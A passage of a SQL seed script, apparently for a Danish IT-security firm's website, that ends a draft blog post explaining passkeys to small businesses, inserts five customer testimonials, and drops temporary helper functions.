  'Passkeys erstatter adgangskoden med en nøgle på din telefon eller computer. Er teknologien klar til den lille virksomhed?',
  'Identitet',
  null,
  0,
  'Jonas Brandt',
  null,
  'Passkeys forklaret for små virksomheder: hvordan de virker, hvor de kan bruges, og hvad man skal tænke på.',
  array['passkeys', 'FIDO2', 'adgangskoder', 'identitet'],
  $md$
*Kladde – mangler afsnit om gendannelse og delte konti.*

En passkey er et nøglepar: den private nøgle bliver på din enhed, og den offentlige nøgle ligger hos tjenesten. Når du logger ind, beviser din enhed, at den har den private nøgle, typisk efter at du har brugt fingeraftryk eller ansigtsgenkendelse.

Fordi der ikke er noget at taste ind, er der heller ikke noget at fiske.

## Hvor kan det bruges i dag?

- Microsoft 365 og Google Workspace
- De fleste store webtjenester
- Regnskabssystemerne: status undersøges

## Hvad skal man tænke på?

Hvad sker der, når en medarbejder mister sin telefon? Det afsnit skriver vi færdigt, når vi har testet gendannelse hos de tre største udbydere.
$md$
);

-- ---------------------------------------------------------------------------------------------------------
-- Customer references: four shown, one hidden. Ordered by display_order, then newest first.
-- ---------------------------------------------------------------------------------------------------------
insert into public.testimonials (id, company_name, quote, industry, logo_url, is_active, display_order, created_at) values
  (
    'c1000000-0000-4000-8000-000000000001',
    'Tømrerfirmaet Hansen & Søn ApS',
    'Vi har tolv svende ude på pladserne og ingen IT-afdeling. Nu er alle telefoner og pc''er beskyttet, og vi fik det sat op på en formiddag. Det er præcis den slags løsning, en håndværksvirksomhed har brug for.',
    'Byggeri',
    null,
    true,
    10,
    '2025-02-03 09:00:00+01'
  ),
  (
    'c1000000-0000-4000-8000-000000000002',
    'Fysioterapi Aarhus Midt',
    'Vi arbejder med helbredsoplysninger hver dag, så sikkerhed er ikke til forhandling. Det giver ro, at mails og patientdata er beskyttet, og at vi har en dansk kontakt, når vi har spørgsmål.',
    'Sundhed',
    null,
    true,
    20,
    '2025-05-12 13:30:00+02'
  ),
  (
    'c1000000-0000-4000-8000-000000000003',
    'Revisionshuset Vestjylland',
    'Efter et forsøg på fakturasvindel hos en af vores kunder ville vi selv være helt sikre. Awareness-træningen har gjort medarbejderne skarpere, og de melder nu mistænkelige mails i stedet for at slette dem.',
    'Revision og rådgivning',
    null,
    true,
    30,
    '2025-09-22 10:15:00+02'
  ),
  (
    'c1000000-0000-4000-8000-000000000004',
    'Nørrebro Kaffebar',
    'Kassesystem, gæste-Wi-Fi og kontor-pc kører nu på hver sit net. Jeg forstod ærligt talt ikke forskellen før, men opsætningen var enkel og prisen passer til en lille café.',
    'Restauration',
    null,
    true,
    40,
    '2026-02-09 08:45:00+01'
  ),
  (
    'c1000000-0000-4000-8000-000000000005',
    'Fynske Vognmænd A/S',
    'Vores chauffører bruger tablets hele dagen, og det var vigtigt for os, at de også var beskyttet. Løsningen har kørt stabilt siden opstarten.',
    'Transport og logistik',
    null,
    false,
    50,
    '2026-04-28 14:00:00+02'
  )
on conflict (id) do nothing;

drop function pg_temp.add_post(uuid, text, text, text, text, timestamptz, integer, text, text, text, text[], text, text);
drop function pg_temp.demo_admin();
drop function pg_temp.reading_time(text);
drop function pg_temp.trim_ws(text);
